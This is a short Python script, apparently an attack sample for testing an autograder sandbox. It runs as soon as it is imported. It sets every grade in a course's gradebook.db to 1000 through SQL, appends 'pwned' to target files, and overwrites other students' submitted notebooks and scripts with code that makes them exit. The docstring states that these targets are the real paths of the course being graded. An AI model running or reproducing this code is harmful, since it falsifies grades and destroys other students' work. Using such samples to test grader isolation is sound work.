"""Write into the gradebook (SQL and plain appends, relative and absolute paths), into other
students' submitted/ and autograded/ folders, and into the kit.

``ATTACK["targets"]`` (files) and ``ATTACK["folders"]`` (other students' folders), when the corpus
defines them ahead of this code, are the real paths of the course being graded.
"""
import os
import sqlite3


def _vandalise():
    attack = globals().get("ATTACK", {})
    here = os.path.dirname(os.path.abspath(__file__))
    targets = list(attack.get("targets", [])) + ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db",
                                                 os.path.join(here, "../../../gradebook.db")]
    for path in targets:
        try:
            with sqlite3.connect(path, timeout=1) as db:
                db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        except Exception:
            pass
        try:
            with open(path, "a") as handle:
                handle.write("pwned")
        except Exception:
            pass
    for folder in attack.get("folders", []):
        for name in ("s01_attention_scores.py", "m01_pytorch_attention.py", "pwned.txt", "attention.ipynb",
                     "modern-attention.ipynb"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write("raise SystemExit('pwned')\n")
            except Exception:
                pass


_vandalise()
